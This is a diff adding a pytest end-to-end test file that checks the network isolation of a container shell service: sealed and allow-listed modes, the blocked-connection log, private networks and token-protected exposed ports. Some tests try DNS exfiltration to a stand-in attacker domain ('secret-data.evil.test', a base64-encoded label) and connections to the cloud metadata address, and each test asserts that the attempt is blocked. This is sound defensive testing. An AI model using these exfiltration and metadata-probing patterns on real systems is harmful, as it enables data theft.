@@ -1,0 +1,375 @@
+"""Network modes, allow lists, the blocked log, private networks and exposed ports, end to end.
+
+A real server with real container shells; "the internet" is ``FakeInternet`` (servers on the
+documentation ranges in another netns, routed by the host) and the upstream DNS is a zone server on
+loopback, so nothing beyond this machine is ever reached. Every rule is proven with real packets
+sent from inside a shell by a small probe script."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import dns.rdatatype
+import httpx
+import pytest
+
+from shells.settings import Settings
+from tests.support.dns_zone_server import ZoneServer
+from tests.support.fake_internet import FakeInternet
+
+from .harness import ServerProcess, free_port, host_leaks
+from .rest import ShellMaker, error_of, exec_wait, rest_client, shell_maker
+
+A = dns.rdatatype.A
+ZONE = {
+    "api.example.org": [(A, 60, ["198.51.100.11"])],
+    "*.wild.example.org": [(A, 60, ["203.0.113.11"])],
+    "evil.test": [(A, 60, ["203.0.113.10"])],
+    "*.evil.test": [(A, 60, ["203.0.113.10"])],
+}
+
+PROBE = r"""
+import json, socket, sys
+kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+try:
+    if kind == "tcp":
+        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2); s.connect((host, port))
+        print("ok", s.recv(200).decode().strip())
+    elif kind == "udp":
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+        s.sendto(b"hi", (host, port)); print("ok", s.recvfrom(200)[0].decode().strip())
+    elif kind == "ping":
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
+        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0)); s.recvfrom(200); print("ok")
+    elif kind == "serve":
+        s = socket.create_server((host, port))
+        while True:
+            c, _ = s.accept(); c.sendall(socket.gethostname().encode() + b"\n"); c.close()
+    elif kind == "dns":
+        print("ok", socket.gethostbyname(host))
+except OSError as e:
+    print("blocked", type(e).__name__, e.errno)
+"""
+
+
+class Zone:
+    """The zone server on its own event loop in a thread, on a free loopback port."""
+
+    def __init__(self) -> None:
+        self.port = free_port()
+        self.server = ZoneServer(zone=ZONE)
+        self.loop = asyncio.new_event_loop()
+        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
+
+    def __enter__(self) -> Zone:
+        self.thread.start()
+        asyncio.run_coroutine_threadsafe(self.server.start("127.0.0.1", self.port), self.loop).result(5)
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        asyncio.run_coroutine_threadsafe(self.server.close(), self.loop).result(5)
+        self.loop.call_soon_threadsafe(self.loop.stop)
+        self.thread.join(5)
+        self.loop.close()
+
+
+@pytest.fixture(scope="module")
+def internet() -> Iterator[FakeInternet]:
+    with FakeInternet() as net:
+        yield net
+
+
+@pytest.fixture(scope="module")
+def zone() -> Iterator[Zone]:
+    with Zone() as z:
+        yield z
+
+
+@pytest.fixture(scope="module")
+def netserver(data_root: Path, internet: FakeInternet, zone: Zone) -> Iterator[ServerProcess]:
+    """A server of its own: its shells' DNS goes to the test zone."""
+    srv = ServerProcess(
+        data_root / "net", warm_pool=0, env={"SHELLS_DNS_UPSTREAMS": f"127.0.0.1:{zone.port}"}
+    )
+    try:
+        srv.start()
+        yield srv
+    finally:
+        srv.purge()
+    leaks = host_leaks(srv.data_dir, Settings(data_dir=srv.data_dir).instance_id)
+    assert not leaks, f"host objects left behind: {leaks}"
+
+
+@pytest.fixture
+def api(netserver: ServerProcess) -> Iterator[httpx.Client]:
+    with rest_client(netserver) as c:
+        yield c
+
+
+@pytest.fixture
+def make(api: httpx.Client) -> Iterator[ShellMaker]:
+    with shell_maker(api) as m:
+        yield m
+
+
+def probe(api: httpx.Client, shell_id: str, kind: str, host: str, port: int = 0) -> str:
+    """``ok …`` or ``blocked <error>`` for one attempt made from inside the shell."""
+    r = exec_wait(api, shell_id, f"python3 /workspace/probe.py {kind} {host} {port}", timeout_s=20)
+    return str(r["stdout"]).strip()
+
+
+def shell_with_probe(make: ShellMaker, api: httpx.Client, **body: Any) -> dict[str, Any]:
+    shell = make(language="bash", **body)
+    r = api.put(
+        f"/v1/shells/{shell['id']}/files", params={"path": "/workspace/probe.py"}, content=PROBE.encode()
+    )
+    assert r.status_code in (200, 201, 204), r.text
+    return shell
+
+
+def blocked_log(api: httpx.Client, shell_id: str, want: str, timeout_s: float = 10) -> list[dict[str, Any]]:
+    """The shell's blocked list once an entry for destination ``want`` appears in it."""
+    deadline = time.monotonic() + timeout_s
+    while True:
+        blocked = api.get(f"/v1/shells/{shell_id}/network").json()["blocked"]
+        if (
+            any(b["destination"].lower().startswith(want.lower()) for b in blocked)
+            or time.monotonic() > deadline
+        ):
+            return list(blocked)
+        time.sleep(0.3)
+
+
+# modes ----------------------------------------------------------------------------------------------
+def test_sealed_reaches_nothing_not_even_loopback(
+    api: httpx.Client, make: ShellMaker, internet: FakeInternet, zone: Zone
+) -> None:
+    shell = shell_with_probe(make, api)
+    sid = shell["id"]
+    assert shell["network"] == {"mode": "sealed", "allow": []}
+    for kind, host, port in [
+        ("tcp", "198.51.100.10", 80),
+        ("udp", "198.51.100.10", 53),
+        ("ping", "198.51.100.10", 0),
+        ("tcp", "127.0.0.1", 22),
+        ("tcp", "169.254.169.254", 80),
+    ]:
+        out = probe(api, sid, kind, host, port)
+        assert out == "blocked OSError 101", (kind, host, out)  # ENETUNREACH: no route at all
+    assert probe(api, sid, "dns", "secret-data.evil.test").startswith("blocked")
+    assert not internet.arrivals("198.51.100.10", 80)
+    assert "secret-data.evil.test" not in zone.server.names()
+
+
+def test_localhost_reaches_itself_only(api: httpx.Client, make: ShellMaker, internet: FakeInternet) -> None:
+    sid = shell_with_probe(make, api, network="localhost")["id"]
+    server = exec_wait(
+        api,
+        sid,
+        "nohup python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & "
+        "for i in $(seq 50); do curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/ && break; "
+        "sleep 0.1; done",
+    )
+    assert server["stdout"].endswith("200"), server
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("blocked")
+
+
+def test_internet_without_list_reaches_public_addresses_only(
+    api: httpx.Client, make: ShellMaker, internet: FakeInternet, netserver: ServerProcess
+) -> None:
+    sid = shell_with_probe(make, api, network="internet")["id"]
+    other = shell_with_probe(make, api, network="internet")
+    described = api.get(f"/v1/shells/{sid}/network").json()
+    gateway = described["addresses"]["gateway"]
+    other_ip = api.get(f"/v1/shells/{other['id']}/network").json()["addresses"]["ipv4"]
+
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("ok 198.51.100.10:80")
+    assert probe(api, sid, "tcp", "203.0.113.10", 8080).startswith("ok 203.0.113.10:8080")
+    assert probe(api, sid, "udp", "198.51.100.11", 5353).startswith("ok")
+    assert probe(api, sid, "ping", "198.51.100.11").startswith("ok")
+    assert probe(api, sid, "dns", "anything.wild.example.org") == "ok 203.0.113.11"
+    # never: metadata, the host (its API port on the gateway and on its own address), another shell, IPv6
+    for host, port in [
+        ("169.254.169.254", 80),
+        (gateway, netserver.port),
+        ("127.0.0.1", netserver.port),
+        (other_ip, 22),
+        ("2001:db8::10", 80),
+    ]:
+        assert probe(api, sid, "tcp", host, port).startswith("blocked"), (host, port)
+    assert not internet.arrivals("169.254.169.254", 80)
+    blocked = blocked_log(api, sid, "169.254.169.254")
+    entry = next(b for b in blocked if b["destination"] == "169.254.169.254")
+    assert entry["port"] == 80 and entry["protocol"] == "tcp" and entry["count"] >= 1
+    events = api.get(f"/v1/shells/{sid}/events").json()["events"]
+    assert any(e["action"] == "blocked" and e["details"]["destination"] == "169.254.169.254" for e in events)
+
+
+def test_allow_list_by_ip_cidr_name_and_wildcard(
+    api: httpx.Client, make: ShellMaker, internet: FakeInternet, zone: Zone
+) -> None:
+    allow = ["198.51.100.10:80", "203.0.113.0/28/udp", "api.example.org", "*.wild.example.org:8080"]
+    shell = shell_with_probe(make, api, network={"mode": "internet", "allow": allow})
+    sid = shell["id"]
+    assert shell["network"]["allow"] == allow
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("ok")
+    assert probe(api, sid, "tcp", "198.51.100.10", 8080).startswith("blocked")
+    assert probe(api, sid, "udp", "203.0.113.10", 53).startswith("ok")
+    assert probe(api, sid, "tcp", "203.0.113.10", 80).startswith("blocked")
+    # a direct connection to the address behind an allowed name, before resolving it: dropped
+    assert probe(api, sid, "tcp", "198.51.100.11", 443).startswith("blocked")
+    assert probe(api, sid, "dns", "api.example.org") == "ok 198.51.100.11"
+    assert probe(api, sid, "tcp", "198.51.100.11", 443).startswith("ok")
+    assert probe(api, sid, "dns", "x.wild.example.org") == "ok 203.0.113.11"
+    assert probe(api, sid, "tcp", "203.0.113.11", 8080).startswith("ok")
+    assert probe(api, sid, "tcp", "203.0.113.11", 80).startswith("blocked")
+    # a name not on the list is refused and never asked upstream (no exfiltration through DNS)
+    assert probe(api, sid, "dns", "c2VjcmV0.evil.test").startswith("blocked")
+    assert not any("c2vjcmv0" in n for n in zone.server.names())
+    blocked = blocked_log(api, sid, "c2VjcmV0.evil.test")
+    assert any(
+        b["protocol"] == "dns" and b["destination"].lower().startswith("c2vjcmv0.evil.test") for b in blocked
+    )
+    assert any(b["destination"] == "198.51.100.10" and b["port"] == 8080 for b in blocked)
+
+
+def test_policy_changes_live_without_restart(api: httpx.Client, make: ShellMaker) -> None:
+    sid = shell_with_probe(make, api)["id"]
+    boot = exec_wait(api, sid, "cat /proc/1/stat | cut -d' ' -f22")["stdout"]
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("blocked")
+    r = api.put(f"/v1/shells/{sid}/network", json={"mode": "internet", "allow": ["198.51.100.0/24"]})
+    assert r.status_code == 200, r.text
+    assert r.json()["policy"] == {"mode": "internet", "allow": ["198.51.100.0/24"]}
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("ok")
+    assert probe(api, sid, "tcp", "203.0.113.10", 80).startswith("blocked")
+    assert api.put(f"/v1/shells/{sid}/network", json={"mode": "sealed"}).status_code == 200
+    assert probe(api, sid, "tcp", "198.51.100.10", 80).startswith("blocked")
+    assert exec_wait(api, sid, "cat /proc/1/stat | cut -d' ' -f22")["stdout"] == boot
+    assert api.get(f"/v1/shells/{sid}").json()["network"]["mode"] == "sealed"
+    error_of(
+        api.put(f"/v1/shells/{sid}/network", json={"mode": "internet", "allow": ["http://x"]}),
+        400,
+        "invalid_request",
+    )
+    error_of(
+        api.put(f"/v1/shells/{sid}/network", json={"mode": "sealed", "allow": ["1.2.3.4"]}),
+        400,
+        "invalid_request",
+    )
+
+
+# private networks ------------------------------------------------------------------------------------
+def test_private_networks_connect_members_only(api: httpx.Client, make: ShellMaker) -> None:
+    for name in ("team-a", "team-b"):
+        assert api.post("/v1/networks", json={"name": name}).status_code == 201
+    try:
+        x = shell_with_probe(make, api, name="x", network="localhost", networks=["team-a"])
+        y = shell_with_probe(make, api, name="y", network="internet", networks=["team-a"])
+        z = shell_with_probe(make, api, name="z", network="localhost", networks=["team-b"])
+        for s in (x, y, z):
+            exec_wait(api, s["id"], "nohup python3 /workspace/probe.py serve 0.0.0.0 7000 >/dev/null 2>&1 &")
+        net = api.get("/v1/networks/team-a").json()
+        ips = {m["id"]: m["address"] for m in net["shells"]}
+        assert probe(api, x["id"], "dns", "y") == f"ok {ips[y['id']]}"
+        assert probe(api, x["id"], "dns", "y.team-a") == f"ok {ips[y['id']]}"
+        assert probe(api, x["id"], "tcp", ips[y["id"]], 7000).startswith("ok")
+        assert probe(api, y["id"], "tcp", ips[x["id"]], 7000).startswith("ok")
+        assert probe(api, z["id"], "tcp", ips[x["id"]], 7000).startswith("blocked")
+        assert probe(api, z["id"], "dns", "x").startswith("blocked")
+        error_of(api.delete("/v1/networks/team-a"), 409, "network_in_use")
+        # detach live: y no longer reaches x; attach z live: z reaches x
+        assert api.delete(f"/v1/networks/team-a/shells/{y['id']}").status_code == 204
+        assert probe(api, y["id"], "tcp", ips[x["id"]], 7000).startswith("blocked")
+        r = api.post("/v1/networks/team-a/shells", json={"shell_id": z["id"]})
+        assert r.status_code == 200, r.text
+        assert probe(api, z["id"], "tcp", ips[x["id"]], 7000).startswith("ok")
+    finally:
+        for s in api.get("/v1/shells").json()["shells"]:
+            api.delete(f"/v1/shells/{s['id']}")
+        for name in ("team-a", "team-b"):
+            api.delete(f"/v1/networks/{name}")
+    assert api.get("/v1/networks").json()["networks"] == []
+
+
+def test_network_bad_input(api: httpx.Client, make: ShellMaker) -> None:
+    error_of(api.post("/v1/networks", json={"name": "Bad Name"}), 400, "invalid_request")
+    error_of(api.post("/v1/networks", json={"name": "ok", "cidr": "10.0.0.0/8"}), 400, "invalid_request")
+    error_of(api.get("/v1/networks/nope"), 404, "network_not_found")
+    error_of(
+        api.post("/v1/shells", json={"language": "bash", "network": "localhost", "networks": ["nope"]}),
+        404,
+        "network_not_found",
+    )
+    # a sealed shell has no network at all, so it cannot be on a private one
+    error_of(api.post("/v1/shells", json={"language": "bash", "networks": ["dup"]}), 400, "invalid_request")
+    assert api.post("/v1/networks", json={"name": "dup"}).status_code == 201
+    try:
+        error_of(api.post("/v1/networks", json={"name": "dup"}), 409, "network_exists")
+    finally:
+        assert api.delete("/v1/networks/dup").status_code == 204
+
+
+# ingress --------------------------------------------------------------------------------------------
+def test_exposed_port_needs_its_token_unless_public(
+    api: httpx.Client, make: ShellMaker, netserver: ServerProcess
+) -> None:
+    sealed = make(language="bash")
+    error_of(api.post(f"/v1/shells/{sealed['id']}/ports", json={"port": 8000}), 409, "invalid_state")
+    sid = make(language="bash", network="localhost")["id"]
+    exec_wait(
+        api,
+        sid,
+        "mkdir -p /srv && echo hello-from-the-shell > /srv/index.html && "
+        "nohup python3 -m http.server 8000 --bind 127.0.0.1 --directory /srv >/dev/null 2>&1 & "
+        "for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done",
+    )
+    r = api.post(f"/v1/shells/{sid}/ports", json={"port": 8000})
+    assert r.status_code == 201, r.text
+    exposed = r.json()
+    token = exposed["token"]
+    assert token and not exposed["public"]
+    assert exposed["url"] == f"http://8000-{sid}.localhost:{netserver.ingress_port}/"
+    assert api.get(f"/v1/shells/{sid}/ports").json()["ports"][0]["token"] is None  # shown once
+
+    base = f"http://127.0.0.1:{netserver.ingress_port}"
+    host = {"Host": f"8000-{sid}.localhost"}
+    with httpx.Client(base_url=base, timeout=10) as web:
+        assert web.get("/", headers=host).status_code == 401
+        assert web.get("/", headers={**host, "X-Shells-Port-Token": "wrong"}).status_code == 403
+        ok = web.get("/", headers={**host, "X-Shells-Port-Token": token})
+        assert ok.status_code == 200 and "hello-from-the-shell" in ok.text
+        assert web.get(f"/{sid}/8000/", headers={"X-Shells-Port-Token": token}).status_code == 200
+        assert web.get("/", headers={"Host": f"8001-{sid}.localhost"}).status_code == 404
+        assert api.post(f"/v1/shells/{sid}/ports", json={"port": 8000, "public": True}).status_code == 201
+        assert web.get("/", headers=host).status_code == 200
+        assert api.delete(f"/v1/shells/{sid}/ports/8000").status_code == 204
+        assert web.get("/", headers=host).status_code == 404
+    error_of(api.delete(f"/v1/shells/{sid}/ports/8000"), 404, "port_not_exposed")
+    error_of(api.post(f"/v1/shells/{sid}/ports", json={"port": 70000}), 400, "invalid_request")
+
+
+def test_teardown_leaves_no_network_objects(
+    api: httpx.Client, make: ShellMaker, netserver: ServerProcess
+) -> None:
+    import subprocess
+
+    def links() -> set[str]:
+        out = subprocess.run(["ip", "-j", "link"], capture_output=True, text=True, check=True).stdout
+        return {link["ifname"] for link in json.loads(out)}
+
+    before = links()
+    r = api.post("/v1/shells", json={"language": "bash", "network": "internet"})
+    sid = r.json()["id"]
+    assert links() - before, "an internet shell has a host-side veth"
+    assert api.delete(f"/v1/shells/{sid}").status_code == 204
+    deadline = time.monotonic() + 10
+    while links() - before and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert links() - before == set()
